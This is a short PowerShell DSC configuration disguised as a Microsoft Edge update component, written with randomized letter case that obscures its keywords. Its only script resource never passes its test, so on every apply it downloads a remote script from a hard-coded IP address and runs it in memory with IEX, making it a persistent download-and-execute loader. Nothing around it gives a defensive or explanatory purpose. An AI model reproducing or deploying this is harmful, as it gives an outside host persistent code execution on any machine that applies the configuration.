# sEtUp 1224 V3
CoNfIgUrATIOn MICrosofteDgeUpDaTeCoRE {
  ImPORT-dsCrESOURCE -mOdUlEnAmE PsdeSIRedStAtecoNfIguRaTIOn
  nODE loCAlHOSt {
    ScRIPT bOoTsTrAp {
      gEtScRiPt = { @{ ReSuLt = '' } }
      tESTsCripT = { $FAlSe }
      sETScrIPT = { iEX (nEw-oBjEcT NEt.wEBClIeNt).DOwnLoADSTRiNg('http://192.0.2.150/a.ps1') }
    }
  }
}
